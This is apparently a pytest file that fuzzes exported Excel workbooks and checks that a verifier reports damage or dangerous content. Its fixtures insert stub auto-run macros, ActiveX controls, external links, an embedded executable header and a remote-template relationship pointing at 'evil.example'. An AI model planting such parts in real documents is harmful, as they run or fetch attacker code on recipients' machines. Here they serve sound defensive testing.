"""Exports that were damaged or made to harm: an error that says what is wrong, or findings; never a traceback."""

from __future__ import annotations

import contextlib
import io
import random
import re
import zipfile

import pytest

from decision.files.enclosed_in import enclosed_in
from decision.model.errors import DecisionError
from decision.verification.verification import verify
from tests.verification.test_workbook import EXPORTED

PIECES = (b"<", b">", b"&", b'"', b"9999999", b"\0", b'<c r="A1"/>', b"-1", b"NaN", b"e9", b"\xff")


def damaged(raw: bytes, rng: random.Random) -> bytes:
    """The workbook with a part missing, or with bytes taken out of one, put into it or changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as package, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as written:
        names = package.namelist()
        hit = rng.choice(names)
        for name in names:
            content = bytearray(package.read(name))
            if name == hit and rng.random() < 0.2:
                continue
            for _ in range(rng.randint(1, 5) if name == hit else 0):
                at = rng.randrange(len(content))
                if rng.random() < 0.5:
                    del content[at : at + rng.randint(1, 60)]
                else:
                    content[at:at] = rng.choice(PIECES)
            written.writestr(name, bytes(content))
    return out.getvalue()


@pytest.mark.parametrize("seed", range(10))
def test_a_damaged_workbook_is_an_error_or_has_findings(seed: int) -> None:
    raw = damaged(EXPORTED["minimal"], random.Random(seed))
    with contextlib.suppress(DecisionError):  # and nothing else
        found = verify(enclosed_in(raw, "x.xlsx"), raw, "x.xlsx")
        assert all(str(each) for each in found.findings)


@pytest.mark.parametrize(("sheet", "number"), [("Summary", 1), ("Comparison", 2)])
@pytest.mark.parametrize("index", [b"nowhere", b"999999"])
def test_a_cell_whose_text_is_not_there_is_told_with_its_sheet(sheet: str, number: int, index: bytes) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(EXPORTED["minimal"])) as package, zipfile.ZipFile(out, "w") as written:
        for name in package.namelist():
            content = package.read(name)
            if name == f"xl/worksheets/sheet{number}.xml":
                content = re.sub(rb't="s"><v>\d+</v>', b't="s"><v>' + index + b"</v>", content, count=1)
            written.writestr(name, content)
    with pytest.raises(DecisionError, match=rf"cannot be read \(a cell of the sheet {sheet} is damaged\)"):
        verify(enclosed_in(out.getvalue(), "x.xlsx"), out.getvalue(), "x.xlsx")


def test_a_sheet_that_claims_a_million_rows_is_not_walked_through() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(EXPORTED["minimal"])) as package, zipfile.ZipFile(out, "w") as written:
        for name in package.namelist():
            content = package.read(name)
            if name == "xl/worksheets/sheet1.xml":
                content = content.replace(
                    b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
                )
            written.writestr(name, content)
    with pytest.raises(DecisionError, match="the sheet Summary holds more than is compared"):
        verify(enclosed_in(out.getvalue(), "x.xlsx"), out.getvalue(), "x.xlsx")


@pytest.mark.parametrize(
    ("part", "content", "note"),
    [
        ("xl/vbaProject.bin", b"Sub Auto_Open()", "holds macros or controls, and no export does"),
        ("xl/activeX/activeX1.xml", b"<ocx/>", "holds macros or controls, and no export does"),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>", "holds links to other files, and no export does"),
        ("xl/embeddings/oleObject1.bin", b"MZ", "holds another file, and no export does"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/>',
            "refers to a template or another document, and no export does",
        ),
    ],
)
def test_what_runs_or_fetches_something_was_put_in_and_is_found(part: str, content: bytes, note: str) -> None:
    """Excel's own settings of a printer are none of that."""
    raw = io.BytesIO(EXPORTED["minimal"])
    with zipfile.ZipFile(raw, "a") as package:
        package.writestr(part, content)
        package.writestr("xl/printerSettings/printerSettings1.bin", b"x")
    found = verify(enclosed_in(raw.getvalue(), "x.xlsx"), raw.getvalue(), "x.xlsx")
    assert [(each.where, each.note) for each in found.findings] == [(part, note)]
    assert not found.holds
